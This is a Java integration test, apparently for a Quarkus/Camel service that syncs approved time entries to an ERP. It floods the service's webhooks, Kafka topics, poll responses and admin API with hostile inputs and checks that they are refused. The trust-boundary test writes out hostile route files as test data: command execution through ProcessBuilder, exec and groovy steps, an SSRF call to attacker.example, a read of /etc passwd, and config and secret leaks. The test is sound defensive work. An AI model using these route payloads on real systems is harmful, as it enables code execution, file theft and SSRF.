package io.ledgerbridge.intake;

import static com.github.tomakehurst.wiremock.client.WireMock.equalTo;
import static com.github.tomakehurst.wiremock.client.WireMock.get;
import static com.github.tomakehurst.wiremock.client.WireMock.getRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.okJson;
import static com.github.tomakehurst.wiremock.client.WireMock.postRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.urlPathEqualTo;
import static com.github.tomakehurst.wiremock.client.WireMock.urlPathMatching;
import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.github.tomakehurst.wiremock.verification.LoggedRequest;
import io.ledgerbridge.deadletter.DeadLetter;
import io.ledgerbridge.flow.ErrorClass;
import io.ledgerbridge.psa.harvest.HarvestPoll;
import io.ledgerbridge.poll.PollWatermark;
import io.ledgerbridge.testing.Admin;
import io.ledgerbridge.testing.HostileInputs;
import io.ledgerbridge.testing.HostileInputs.Input;
import io.ledgerbridge.testing.KafkaTopics;
import io.ledgerbridge.testing.Store;
import io.ledgerbridge.testing.TimeEntryFixtures;
import io.ledgerbridge.testing.TimeEntryFixtures.Project;
import io.ledgerbridge.testing.VendorStubs;
import io.quarkus.narayana.jta.QuarkusTransaction;
import io.quarkus.test.junit.QuarkusTest;
import jakarta.inject.Inject;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.concurrent.ConcurrentHashMap;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import org.apache.camel.CamelContext;
import org.eclipse.microprofile.config.ConfigProvider;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;

/**
 * 10,000 generated malformed and hostile inputs ({@link HostileInputs}) into every ingress: the source webhooks,
 * the flows' Kafka topics, Harvest's poll answers and the admin API, with good approved time interleaved. Every
 * HTTP refusal is a 4xx with problem+json and a reason (never a 5xx); everything taken in ends as a dead letter with
 * a class (never INTERNAL: a misclassified input is a defect) or, for legitimate odd text, posted with the text
 * intact; the good entries are each posted exactly once; the service stays up and ready.
 */
@QuarkusTest
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class HostileInputTest {

    static final int WEBHOOK_TIME = Integer.getInteger("hostile.webhook-time", 2_000);
    static final int WEBHOOK_OTHER = Integer.getInteger("hostile.webhook-other", 500);
    static final int KAFKA_TIME = Integer.getInteger("hostile.kafka-time", 1_500);
    static final int KAFKA_OTHER = Integer.getInteger("hostile.kafka-other", 250);
    static final int POLL_PAGES = 48;
    static final int POLL_PER_PAGE = 10;
    static final int POLL_BROKEN_PAGES = 20;
    static final int ADMIN = Integer.getInteger("hostile.admin", 3_000);
    static final String V1 = "2026-11-20T10:15:00Z";
    static final Pattern MARKER = Pattern.compile("hostile-\\d{6}");
    static final ObjectMapper JSON = new ObjectMapper();

    /** Ingress -> outcome -> count, printed and written to target/hostile/hostile.txt. */
    static final Map<String, Map<String, Integer>> tally = new ConcurrentHashMap<>();
    /** Good entries of the running test (each test checks its own), and how many in all. */
    static final List<Long> good = new ArrayList<>();
    static int goodTotal;
    static Project project;
    static HostileInputs inputs;
    static HostileInputs records;
    static int next;

    @Inject
    CamelContext camel;


    @AfterAll
    static void report() throws Exception {
        StringBuilder text = new StringBuilder("hostile inputs by ingress and outcome\n");
        int total = 0;
        for (var ingress : new TreeMap<>(tally).entrySet()) {
            int sum = ingress.getValue().values().stream().mapToInt(Integer::intValue).sum();
            total += ingress.getKey().startsWith("(") ? 0 : sum;
            text.append(String.format("  %-28s %6d  %s%n", ingress.getKey(), sum, new TreeMap<>(ingress.getValue())));
        }
        text.append(String.format("  %-28s %6d   good entries interleaved: %d, each posted once%n", "total", total,
                goodTotal));
        System.out.println(text);
        Files.createDirectories(Path.of("target/hostile"));
        Files.writeString(Path.of("target/hostile/hostile.txt"), text);
    }

    @org.junit.jupiter.api.BeforeEach
    void ownGoodEntries() {
        if (project == null) {
            VendorStubs.reset();
            project = TimeEntryFixtures.knownProject();
            inputs = new HostileInputs(project, true);
            records = new HostileInputs(project, false);
        }
        good.clear();
    }

    @Test
    @Order(1)
    void webhooks() {
        Map<String, Input> accepted = new ConcurrentHashMap<>();
        Map<String, Long> idOf = new ConcurrentHashMap<>();
        concurrently(WEBHOOK_TIME, i -> {
            long id = TimeEntryFixtures.nextId();
            Input input = inputs.document(next++, id);
            return () -> {
                Reply response = send("/api/v1/time-entries", input.body());
                if (checkHttp("webhook /time-entries", input, response)) {
                    accepted.put(input.marker(), input);
                    idOf.put(input.marker(), id);
                }
            };
        });
        for (String path : List.of("/api/v1/expenses", "/api/v1/deals", "/api/v1/people", "/api/v1/assignments")) {
            concurrently(WEBHOOK_OTHER, i -> {
                Input input = inputs.document(next++, TimeEntryFixtures.nextId());
                return () -> {
                    Reply response = send(path, input.body());
                    // a time entry is no deal, person, expense or assignment: nothing of these may be taken
                    assertThat(checkHttp("webhook " + path.substring(7), input, response))
                            .as("%s took %s input %s", path, input.kind(), input.marker()).isFalse();
                };
            });
        }
        // what was taken in (odd but well-formed entries) ends posted with its text intact, or dead-lettered
        await().atMost(Duration.ofMinutes(3)).pollInterval(Duration.ofSeconds(1)).until(() -> accepted.keySet().stream()
                .allMatch(marker -> outcomeOf(idOf.get(marker)) != null));
        accepted.forEach((marker, input) -> {
            String outcome = outcomeOf(idOf.get(marker));
            count("webhook /time-entries", "taken in, then " + outcome);
            assertThat(outcome).as("%s (%s)", marker, input.kind()).isNotEqualTo("dead-lettered INTERNAL");
            if (outcome.equals("posted")) {
                assertThat(input.kind().mayBeValid).as("%s (%s) posted", marker, input.kind()).isTrue();
                assertPostedIntact(idOf.get(marker), input);
            }
        });
        assertGoodPostedOnce();
        serviceStillUp();
    }

    @Test
    @Order(2)
    void kafkaRecords() {
        String timeTopic = config("ledgerbridge.time.topic");
        Map<String, Input> sent = new HashMap<>();
        Map<String, Long> idOf = new HashMap<>();
        int empties = 0;
        Instant start = Instant.now().minusSeconds(1);
        Map<String, String> batch = new java.util.LinkedHashMap<>();
        for (int i = 0; i < KAFKA_TIME; i++) {
            long id = TimeEntryFixtures.nextId();
            Input input = records.document(next++, id);
            batch.put(input.marker(), input.body());
            if (input.kind() == HostileInputs.Kind.EMPTY) {
                empties++;
            } else {
                sent.put(input.marker(), input);
                idOf.put(input.marker(), id);
            }
            if (i % 50 == 0) {
                long goodId = TimeEntryFixtures.nextId();
                good.add(goodId);
                goodTotal++;
                batch.put("good-" + goodId, project.approvedEntry(goodId, "1.5", V1));
            }
        }
        KafkaTopics.sendAll(timeTopic, batch);
        Map<String, Set<String>> otherTopics = new HashMap<>();
        for (String topic : List.of("ledgerbridge.topics.expenses", "ledgerbridge.topics.deals",
                "ledgerbridge.topics.staffing", "ledgerbridge.topics.people", "ledgerbridge.topics.milestones")) {
            Map<String, String> records = new java.util.LinkedHashMap<>();
            for (int i = 0; i < KAFKA_OTHER; i++) {
                Input input = HostileInputTest.records.document(next++, TimeEntryFixtures.nextId());
                records.put(input.marker(), input.body());
                if (input.kind() != HostileInputs.Kind.EMPTY) {
                    otherTopics.computeIfAbsent(topic, t -> ConcurrentHashMap.newKeySet()).add(input.marker());
                } else {
                    count("kafka " + topic.substring(19), "empty record, dead-lettered VALIDATION");
                }
            }
            KafkaTopics.sendAll(config(topic), records);
        }

        // each record of the time topic: dead-lettered with a class (found by its marker) or posted intact
        Map<String, Input> all = new HashMap<>(sent);
        otherTopics.values().forEach(markers -> markers.forEach(m -> all.put(m, null)));
        awaitOutcomes(all, idOf, start, Duration.ofMinutes(5));
        Map<String, DeadLetter> letters = tallyOutcomes("kafka time topic", "", sent, idOf, start);
        otherTopics.forEach((topic, markers) -> markers.forEach(marker -> {
            DeadLetter letter = letters.get(marker);
            count("kafka " + topic.substring(19), "dead-lettered " + letter.errorClass);
            assertThat(letter.errorClass).as("%s on %s: %s", marker, topic, letter.errorMessage)
                    .isNotEqualTo(ErrorClass.INTERNAL);
        }));
        long emptyLetters = QuarkusTransaction.requiringNew().call(() -> DeadLetter.count(
                "flow = ?1 and createdAt >= ?2 and errorClass = ?3 and (payload is null or length(payload) <= 4)",
                "approved-time-to-erp", start, ErrorClass.VALIDATION));
        assertThat(emptyLetters).as("empty records dead-lettered").isGreaterThanOrEqualTo(empties);
        count("kafka time topic", "empty record, dead-lettered VALIDATION", empties);
        assertGoodPostedOnce();
        serviceStillUp();
    }

    @Test
    @Order(3)
    void pollResponses() throws Exception {
        String path = VendorStubs.HARVEST_BASE + "/time_entries";
        QuarkusTransaction.requiringNew().run(() -> PollWatermark.deleteById(HarvestPoll.SOURCE));
        // pages that are broken as a whole: refused, nothing taken, the watermark stays, the next poll asks again
        for (int i = 0; i < POLL_BROKEN_PAGES; i++) {
            Input input = inputs.document(next++, TimeEntryFixtures.nextId());
            String body = switch (i % 5) {
                case 0 -> input.body().substring(0, Math.min(input.body().length(), 200)) + "{";
                case 1 -> "{\"time_entries\": " + "[".repeat(5_000) + "]".repeat(5_000) + "}";
                case 2 -> "{\"time_entries\": [], \"time_entries\": [" + inputs.good(TimeEntryFixtures.nextId(), input.marker()) + "]}";
                case 3 -> "{\"time_entries\": \"" + input.marker() + "\", \"next_page\": \"2\"}";
                default -> "<html><body>" + input.marker() + " Bad Gateway</body></html>";
            };
            VendorStubs.server().resetRequests();
            var broken = VendorStubs.server().stubFor(get(urlPathEqualTo(path)).atPriority(1).willReturn(okJson(body)));
            pollOnce(path);
            VendorStubs.server().removeStub(broken);
            assertThat(watermark()).as("broken page %d moved the watermark", i).isNull();
            count("poll answers", "page refused, watermark kept");
        }
        // pages of hostile entries with good ones between them: every entry of the pages reaches the flow
        List<Long> pageGood = new ArrayList<>();
        Map<String, Input> sent = new HashMap<>();
        Map<String, Long> idOf = new HashMap<>();
        Instant start = Instant.now().minusSeconds(1);
        for (int page = 1; page <= POLL_PAGES; page++) {
            List<String> entries = new ArrayList<>();
            for (int i = 0; i < POLL_PER_PAGE; i++) {
                long id = TimeEntryFixtures.nextId();
                Input input = inputs.value(next++, id);
                entries.add(input.body());
                sent.put(input.marker(), input);
                idOf.put(input.marker(), id);
            }
            long goodId = TimeEntryFixtures.nextId();
            pageGood.add(goodId);
            entries.add(project.approvedEntry(goodId, "2", V1));
            VendorStubs.server().stubFor(get(urlPathEqualTo(path)).atPriority(1).withQueryParam("page", equalTo(String.valueOf(page)))
                    .willReturn(okJson("{\"time_entries\": [" + String.join(",", entries) + "], \"per_page\": 100, "
                            + "\"total_pages\": " + POLL_PAGES + ", \"page\": " + page + ", \"next_page\": "
                            + (page < POLL_PAGES ? page + 1 : "null") + "}")));
        }
        // an entry that says it is not approved (is_closed false) is left out by the poll, as Harvest means it
        sent.values().removeIf(input -> {
            JsonNode value = readJson(input.body());
            boolean notApproved = value.path("is_closed").isBoolean() && !value.path("is_closed").booleanValue();
            if (notApproved) {
                count("poll answers", "entry left out: not approved");
            }
            return notApproved;
        });
        VendorStubs.server().resetRequests();
        pollOnce(path);
        good.addAll(pageGood);
        goodTotal += pageGood.size();
        awaitOutcomes(sent, idOf, start, Duration.ofMinutes(3));
        tallyOutcomes("poll answers", "entry ", sent, idOf, start);
        assertThat(watermark()).as("the watermark moved to the newest readable updated_at").isEqualTo(Instant.parse(V1));
        assertGoodPostedOnce();
        serviceStillUp();
    }

    @Test
    @Order(4)
    void adminApi() {
        String rateCardBefore = Admin.as(Admin.VIEWER).get("/admin/rate-cards/" + TimeEntryFixtures.RATE_CARD + "/"
                + TimeEntryFixtures.ROLE + "?on=2026-11-19").then().statusCode(200).extract().asString();
        List<String[]> endpoints = List.of(
                new String[] {"PUT", "/admin/cross-references", "[{\"entityType\":\"PERSON\",\"sourceSystem\":\"harvest\","
                        + "\"sourceId\":\"%d\",\"targetSystem\":\"erp\",\"targetId\":\"%s\"}]"},
                new String[] {"PUT", "/admin/rate-cards", "[{\"card\":\"HOSTILE-%d\",\"role\":\"%s\",\"currency\":\"EUR\","
                        + "\"billRate\":\"120.00\",\"costRate\":\"70.00\",\"effectiveFrom\":\"2026-01-01\"}]"},
                new String[] {"PUT", "/admin/projects", "[{\"psaId\":\"%d\",\"erpProjectId\":\"%s\",\"name\":\"x\","
                        + "\"clientName\":\"ABC\",\"region\":\"EU\",\"currency\":\"EUR\",\"contractType\":"
                        + "\"TIME_AND_MATERIALS\",\"rateCard\":\"FIXTURE-EU\",\"status\":\"ACTIVE\",\"startsOn\":\"2026-01-01\"}]"},
                new String[] {"PUT", "/admin/assignments", "[{\"sourceId\":\"hostile-%d\",\"psaProjectId\":\"1\","
                        + "\"psaUserId\":\"2\",\"role\":\"%s\",\"startsOn\":\"2026-01-01\",\"erpTaskId\":\"t\"}]"},
                new String[] {"PUT", "/admin/fx-rates", "[{\"base\":\"EUR\",\"quote\":\"USD\",\"rate\":\"1.1%d\","
                        + "\"effectiveFrom\":\"1999-01-01\",\"source\":\"%s\"}]"},
                new String[] {"PUT", "/admin/reference-data", "{\"crossReferences\": [], \"note\": \"%d %s\"}"},
                new String[] {"POST", "/admin/dead-letters/replay", "{\"filter\": {\"flow\": \"none-%d\", \"key\": \"%s\"}, "
                        + "\"dryRun\": true}"},
                new String[] {"POST", "/admin/flows/approved-time-to-erp/replay-from", "{\"from\": \"%d-%s\"}"},
                new String[] {"POST", "/admin/billing-runs", "{\"project\": \"%d\", \"period\": \"%s\"}"},
                new String[] {"POST", "/admin/dead-letters/%d/replay", "{\"id\": %d, \"notes\": \"%s\"}"},
                new String[] {"GET", "/admin/dead-letters?status=%d&from=%s", null},
                new String[] {"GET", "/admin/sync-records?key=%d&page=%s", null});
        concurrently(ADMIN, i -> {
            String[] endpoint = endpoints.get(i % endpoints.size());
            Input generated = inputs.document(next++, TimeEntryFixtures.nextId());
            Input input = generated.kind() == HostileInputs.Kind.TEN_MEGABYTES && i % 3 != 0
                    ? inputs.document(next++, TimeEntryFixtures.nextId()) : generated;
            String text = textOf(input);
            boolean derived = i % 2 == 0 && endpoint[2] != null;
            String path = endpoint[1].contains("%d") && endpoint[1].contains("%s")
                    ? String.format(endpoint[1], -i, java.net.URLEncoder.encode(text, java.nio.charset.StandardCharsets.UTF_8))
                    : endpoint[1].contains("%d") ? String.format(endpoint[1], i % 4 == 0 ? Long.MAX_VALUE : -i) : endpoint[1];
            String body = endpoint[2] == null ? null
                    : derived ? String.format(endpoint[2], i, jsonText(text)) : input.body();
            return () -> {
                Reply response = call(endpoint[0], path, body, OPERATOR);
                String ingress = "admin " + endpoint[0] + " " + endpoint[1].replaceAll("\\?.*", "").replace("%d", "{id}");
                int status = response.statusCode();
                assertThat(status).as("%s %s with %s (%s): %s", endpoint[0], path, input.marker(), input.kind(),
                        response.asString()).isLessThan(500);
                if (status >= 400) {
                    if (!refusedByHttpLayer(status)) {
                        assertProblem(response, ingress + " " + input.kind() + " " + path + " "
                                + (body == null ? "" : body.substring(0, Math.min(200, body.length()))));
                    }
                    count(ingress, status + (refusedByHttpLayer(status) ? " refused by the HTTP layer" : " refused"));
                } else {
                    // a well-formed document carrying the hostile text in a text field may be taken (as text); a
                    // hostile document itself never
                    count(ingress, status + " taken (well-formed, the hostile text as text)");
                    assertThat(derived || endpoint[0].equals("GET"))
                            .as("%s %s took %s input %s: %s", endpoint[0], path, input.kind(), input.marker(), body == null ? ""
                                    : body.substring(0, Math.min(300, body.length()))).isTrue();
                }
            };
        });
        // what was accepted before is unchanged, and approved time still flows
        Admin.as(Admin.VIEWER).get("/admin/rate-cards/" + TimeEntryFixtures.RATE_CARD + "/" + TimeEntryFixtures.ROLE
                + "?on=2026-11-19").then().statusCode(200).body(org.hamcrest.Matchers.equalTo(rateCardBefore));
        postGoodEntry();
        assertGoodPostedOnce();
        serviceStillUp();
    }

    /**
     * The trust boundaries tried as a hostile caller and a careless operator would: route files that would run code,
     * read a setting or reach another host; one request that would take the memory the flows run on; a version from
     * the far future; another site's form; a viewer's look at a person's data.
     */
    @Test
    @Order(5)
    void trustBoundaries() throws Exception {
        Path ran = Path.of("target/hostile/route-code-ran");
        Files.createDirectories(ran.getParent());
        Files.deleteIfExists(ran);
        String approverPassword = config("quarkus.security.users.embedded.users.approver");
        List<String> routeFiles = List.of(
                "- beans:\n    - name: shell\n      type: java.lang.ProcessBuilder\n      constructors:\n        0: touch\n"
                        + "        1: " + ran.toAbsolutePath() + "\n      initMethod: start\n",
                hostileRoute("x-{{ledgerbridge.webhooks.secret:none}}", "- log: a"),
                hostileRoute("leak", "- log: \"{{quarkus.security.users.embedded.users.approver}}\""),
                hostileRoute("env", "- log: \"{{env:HOME}}\""),
                hostileRoute("ssrf", "- to: \"jsonata:http://attacker.example/x.jsonata\""),
                hostileRoute("read", "- to: \"file:/etc?fileName=passwd\""),
                hostileRoute("exec", "- to: \"exec:touch?args=" + ran.toAbsolutePath() + "\""),
                hostileRoute("script", "- setBody:\n            groovy: \"'touch " + ran.toAbsolutePath() + "'.execute()\""));
        for (String yaml : routeFiles) {
            byte[] file = yaml.getBytes(java.nio.charset.StandardCharsets.UTF_8);
            Admin.as(Admin.OPERATOR).contentType("application/yaml").body(file).post("/admin/routes/validate").then()
                    .statusCode(403);
            String answer = Admin.as(Admin.INTEGRATOR).contentType("application/yaml").body(file)
                    .post("/admin/routes/validate?file=hostile.camel.yaml").then().statusCode(422)
                    .contentType("application/problem+json").extract().asString();
            assertThat(answer).as(yaml).doesNotContain(approverPassword).contains("hostile.camel.yaml:");
            count("admin route file", "422 refused by the route policy");
        }
        assertThat(ran).as("no route file ran code").doesNotExist();

        // one call of 100,000 empty records (300 KB, under the body limit): refused whole, briefly, the flows run on
        Reply many = call("POST", "/api/v1/time-entries", "[" + "{},".repeat(99_999) + "{}]", null);
        assertThat(many.statusCode()).isEqualTo(413);
        assertThat(many.body()).contains("too-many-records").hasSizeLessThan(2_000);
        count("webhook time entries", "413 too many records");

        // a version from the far future would supersede every real later version: a VALIDATION dead letter
        long future = TimeEntryFixtures.nextId();
        given().contentType("application/json").body(project.approvedEntry(future, "1", "9999-12-31T23:59:59Z"))
                .post("/api/v1/time-entries").then().statusCode(202);
        await().atMost(Duration.ofSeconds(60)).until(() -> !Store.deadLetters(future).isEmpty());
        DeadLetter letter = Store.deadLetters(future).get(0);
        assertThat(letter.errorClass).isEqualTo(ErrorClass.VALIDATION);
        count("webhook time entries", "dead letter VALIDATION (version from the future)");

        // another site's form, with the credentials a browser keeps: refused before anything is looked at
        Admin.as(Admin.APPROVER).formParam("x", "1").post("/admin/replay-jobs/1/approve").then().statusCode(415);
        Admin.as(Admin.OPERATOR).contentType("text/plain").body("x").post("/admin/dead-letters/" + letter.id + "/replay")
                .then().statusCode(415);
        Admin.as(Admin.INTEGRATOR).formParam("x", "1").post("/admin/routes/reload").then().statusCode(415);
        Admin.as(Admin.OPERATOR).header("Sec-Fetch-Site", "cross-site").contentType("application/json")
                .post("/admin/dead-letters/" + letter.id + "/replay").then().statusCode(403);
        count("admin cross-site", "415/403 refused", 4);
        // and a viewer sees the dead letter without the person in it
        String viewed = Admin.as(Admin.VIEWER).get("/admin/dead-letters/" + letter.id).then().statusCode(200)
                .extract().asString();
        assertThat(viewed).doesNotContain("Kim Allen").contains("***");

        postGoodEntry();
        assertGoodPostedOnce();
        serviceStillUp();
    }

    static String hostileRoute(String id, String step) {
        return "- route:\n    id: \"" + id + "\"\n    from:\n      uri: direct:hostile-" + Math.abs(id.hashCode())
                + "\n      steps:\n        " + step + "\n";
    }

    // ---- helpers

    /** An HTTP answer as the caller saw it. */
    record Reply(int statusCode, String contentType, String body) {
        String asString() {
            return body;
        }
    }

    static final java.net.http.HttpClient HTTP = java.net.http.HttpClient.newBuilder()
            .version(java.net.http.HttpClient.Version.HTTP_1_1).build();

    /** Callers at once: the service takes concurrent requests, and the run takes a quarter of the time it did in one. */
    static final int CALLERS = 4;

    /**
     * The {@code n} requests of a loop, made by {@link #CALLERS} callers at once in chunks of 50, with a good entry
     * posted before each chunk. {@code prepare} runs in order on the test's thread (the generated inputs are a
     * sequence) and answers the request with its checks; the first failed check fails the test.
     */
    static void concurrently(int n, java.util.function.IntFunction<Runnable> prepare) {
        java.util.concurrent.ExecutorService callers = java.util.concurrent.Executors.newFixedThreadPool(CALLERS);
        try {
            for (int start = 0; start < n; start += 50) {
                postGoodEntry();
                List<java.util.concurrent.Future<?>> chunk = new ArrayList<>();
                for (int i = start; i < Math.min(n, start + 50); i++) {
                    chunk.add(callers.submit(prepare.apply(i)));
                }
                for (java.util.concurrent.Future<?> request : chunk) {
                    request.get();
                }
            }
        } catch (java.util.concurrent.ExecutionException failed) {
            if (failed.getCause() instanceof Error error) {
                throw error;
            }
            throw new IllegalStateException(failed.getCause());
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        } finally {
            callers.shutdownNow();
        }
    }

    static Reply send(String path, String body) {
        return call("POST", path, body, null);
    }

    /**
     * A request as a hostile caller sends it: the body's length declared. (Not with Expect: 100-continue, as curl
     * sends a large body: the JDK 17 client then waits forever for a refusal that has a body, JDK-8286171.)
     */
    static Reply call(String method, String path, String body, String authorization) {
        try {
            return attempt(method, path, body, authorization);
        } catch (IllegalStateException closed) {
            // the server closes a connection after refusing a body it would not read (413): the client's next request
            // may have been written to that closing connection; a new connection answers it
            count("(client)", "request repeated on a new connection");
            return attempt(method, path, body, authorization);
        }
    }

    static Reply attempt(String method, String path, String body, String authorization) {
        try {
            java.net.http.HttpRequest.Builder request = java.net.http.HttpRequest.newBuilder(
                            java.net.URI.create(io.restassured.RestAssured.baseURI + ":" + io.restassured.RestAssured.port + path))
                    .timeout(Duration.ofSeconds(60))
                    .header("Content-Type", "application/json")
                    .method(method, body == null ? java.net.http.HttpRequest.BodyPublishers.noBody()
                            : java.net.http.HttpRequest.BodyPublishers.ofString(body));
            if (authorization != null) {
                request.header("Authorization", authorization);
            }
            var response = HTTP.send(request.build(), java.net.http.HttpResponse.BodyHandlers.ofString());
            return new Reply(response.statusCode(), response.headers().firstValue("Content-Type").orElse(""),
                    response.body());
        } catch (java.io.IOException e) {
            throw new IllegalStateException(method + " " + path + " failed: " + e, e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }

    static final String OPERATOR = Admin.basic(Admin.OPERATOR);

    /** True when the input was taken in (202); otherwise checks the refusal and counts it. */
    static boolean checkHttp(String ingress, Input input, Reply response) {
        int status = response.statusCode();
        assertThat(status).as("%s %s (%s): %s", ingress, input.marker(), input.kind(), response.asString())
                .isIn(202, 400, 413, 415, 422);
        if (status == 202) {
            JsonNode receipt = readJson(response.asString());
            if (receipt.path("accepted").isArray() && receipt.path("accepted").isEmpty()) {
                count(ingress, "202 nothing taken: " + receipt.path("ignored").path(0).path("reason").asText("ignored"));
                return false;
            }
            return true;
        }
        if (!refusedByHttpLayer(status)) {
            assertProblem(response, ingress + " " + input.kind());
        }
        count(ingress, status + " " + readJson(response.asString()).path("title").asText());
        return false;
    }

    /**
     * 414 (request line over 4 KB) and 431 (headers too large) are answered by the HTTP server's decoder before any
     * handler sees the request: a bare status, no problem body. (A body over the limit, 413, is answered by
     * {@code BodyLimit} with a problem.)
     */
    static boolean refusedByHttpLayer(int status) {
        return status == 414 || status == 431;
    }

    static void assertProblem(Reply response, String what) {
        what = what + " -> " + response.statusCode() + " " + response.body().substring(0, Math.min(300, response.body().length()));
        assertThat(response.contentType()).as(what).startsWith("application/problem+json");
        JsonNode problem = readJson(response.asString());
        assertThat(problem.path("status").asInt()).as(what).isEqualTo(response.statusCode());
        assertThat(problem.path("detail").asText(problem.path("title").asText())).as(what).isNotBlank();
    }

    static void postGoodEntry() {
        long id = TimeEntryFixtures.nextId();
        good.add(id);
        goodTotal++;
        given().contentType("application/json").body(project.approvedEntry(id, "1.5", V1)).post("/api/v1/time-entries")
                .then().statusCode(202);
    }

    /** Every good entry so far: posted, under one key, in one ERP call. */
    static void assertGoodPostedOnce() {
        await().atMost(Duration.ofMinutes(3)).pollInterval(Duration.ofSeconds(1))
                .until(() -> good.stream().allMatch(id -> Store.posted(id, V1)));
        Map<String, Long> calls = erpCalls().stream()
                .collect(Collectors.groupingBy(r -> r.getHeader("Idempotency-Key"), Collectors.counting()));
        for (long id : good) {
            assertThat(calls.get("harvest-" + id + "-20261120T101500Z")).as("ERP calls for good entry %d", id)
                    .isEqualTo(1L);
            assertThat(Store.deadLetters(id)).as("dead letters of good entry %d", id).isEmpty();
        }
    }

    static List<LoggedRequest> erpCalls() {
        return VendorStubs.server().findAll(postRequestedFor(urlPathMatching(
                VendorStubs.XERO_BASE + "/Projects/" + project.erpProjectId() + "/Time")));
    }

    /** The odd text an entry was posted with reached the ERP as it was sent. */
    static void assertPostedIntact(long id, Input input) {
        JsonNode sent = readJson(input.body());
        LoggedRequest call = erpCalls().stream()
                .filter(r -> r.getHeader("Idempotency-Key").startsWith("harvest-" + id + "-")).findFirst().orElseThrow();
        JsonNode body = readJson(call.getBodyAsString());
        if (sent.hasNonNull("notes")) {
            assertThat(body.path("description").asText()).as("%s (%s) description", input.marker(), input.kind())
                    .isEqualTo(sent.path("notes").asText());
        }
    }

    /** posted, dead-lettered CLASS, or null while neither. */
    static String outcomeOf(Long id) {
        if (id == null) {
            return null;
        }
        if (!Store.syncRecords(id).isEmpty() && Store.syncRecords(id).stream()
                .anyMatch(r -> r.status == io.ledgerbridge.sync.SyncRecord.Status.POSTED)) {
            return "posted";
        }
        List<DeadLetter> letters = Store.deadLetters(id);
        return letters.isEmpty() ? null : "dead-lettered " + letters.get(0).errorClass;
    }

    /**
     * Counts each input's outcome (dead-lettered with its class, found by its marker, or posted) and checks it: never
     * INTERNAL, and only odd-but-legitimate text posted, reaching the ERP unchanged. Answers the dead letters found.
     */
    static Map<String, DeadLetter> tallyOutcomes(String ingress, String prefix, Map<String, Input> sent,
            Map<String, Long> idOf, Instant start) {
        Map<String, DeadLetter> letters = deadLettersByMarker(start);
        sent.forEach((marker, input) -> {
            DeadLetter letter = letters.get(marker);
            String outcome = prefix + (letter != null ? "dead-lettered " + letter.errorClass : "posted");
            count(ingress, outcome);
            assertThat(letter == null ? null : letter.errorClass).as("%s (%s): %s", marker, input.kind(),
                    letter == null ? "" : letter.errorMessage).isNotEqualTo(ErrorClass.INTERNAL);
            if (letter == null) {
                assertThat(input.kind().mayBeValid).as("%s (%s) posted", marker, input.kind()).isTrue();
                assertPostedIntact(idOf.get(marker), input);
            }
        });
        return letters;
    }

    /** Until each input is dead-lettered (found by its marker) or posted; else fails naming what is missing. */
    static void awaitOutcomes(Map<String, Input> sent, Map<String, Long> idOf, Instant start, Duration limit) {
        long deadline = System.nanoTime() + limit.toNanos();
        List<String> missing = List.of();
        while (System.nanoTime() < deadline) {
            Map<String, DeadLetter> letters = deadLettersByMarker(start);
            missing = sent.keySet().stream().filter(m -> !letters.containsKey(m) && !"posted".equals(outcomeOf(idOf.get(m))))
                    .sorted().toList();
            if (missing.isEmpty()) {
                return;
            }
            try {
                Thread.sleep(1_000);
            } catch (InterruptedException e) {
                Thread.currentThread().interrupt();
                return;
            }
        }
        throw new AssertionError(missing.size() + " inputs neither dead-lettered nor posted within " + limit + ", e.g. "
                + missing.stream().limit(10).map(m -> m + " " + (sent.get(m) == null ? "" : sent.get(m).kind() + " "
                        + sent.get(m).body().substring(0, Math.min(160, sent.get(m).body().length())))).toList());
    }

    static Map<String, DeadLetter> deadLettersByMarker(Instant since) {
        List<DeadLetter> letters = QuarkusTransaction.requiringNew().call(() -> DeadLetter.<DeadLetter>list(
                "createdAt >= ?1", since));
        Map<String, DeadLetter> byMarker = new HashMap<>();
        for (DeadLetter letter : letters) {
            if (letter.payload != null) {
                Matcher marker = MARKER.matcher(letter.payload.substring(0, Math.min(200, letter.payload.length())));
                if (marker.find()) {
                    byMarker.put(marker.group(), letter);
                }
            }
        }
        return byMarker;
    }

    void pollOnce(String path) throws Exception {
        int before = VendorStubs.server().findAll(getRequestedFor(urlPathEqualTo(path))).size();
        camel.getRouteController().startRoute("harvest-time-poll");
        try {
            await().atMost(Duration.ofSeconds(60)).until(() ->
                    VendorStubs.server().findAll(getRequestedFor(urlPathEqualTo(path))).size() > before
                            && camel.getRoute("harvest-time-poll").getUptimeMillis() >= 0
                            && inflight() == 0);
        } finally {
            camel.getRouteController().stopRoute("harvest-time-poll");
        }
    }

    int inflight() {
        return camel.getInflightRepository().size("harvest-time-poll");
    }

    static Instant watermark() {
        return QuarkusTransaction.requiringNew().call(() -> {
            PollWatermark mark = PollWatermark.findById(HarvestPoll.SOURCE);
            return mark == null ? null : mark.watermark;
        });
    }

    static void serviceStillUp() {
        given().get(io.ledgerbridge.testing.Management.url("/q/health/ready")).then().statusCode(200);
    }

    static String textOf(Input input) {
        return input.body().length() > 2_000 ? input.body().substring(0, 2_000) : input.body();
    }

    static String jsonText(String text) {
        try {
            String quoted = JSON.writeValueAsString(text);
            return quoted.substring(1, quoted.length() - 1);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    static JsonNode readJson(String text) {
        try {
            return JSON.readTree(text);
        } catch (Exception e) {
            return JSON.createObjectNode();
        }
    }

    static String config(String key) {
        return ConfigProvider.getConfig().getValue(key, String.class);
    }

    static void count(String ingress, String outcome) {
        count(ingress, outcome, 1);
    }

    static void count(String ingress, String outcome, int n) {
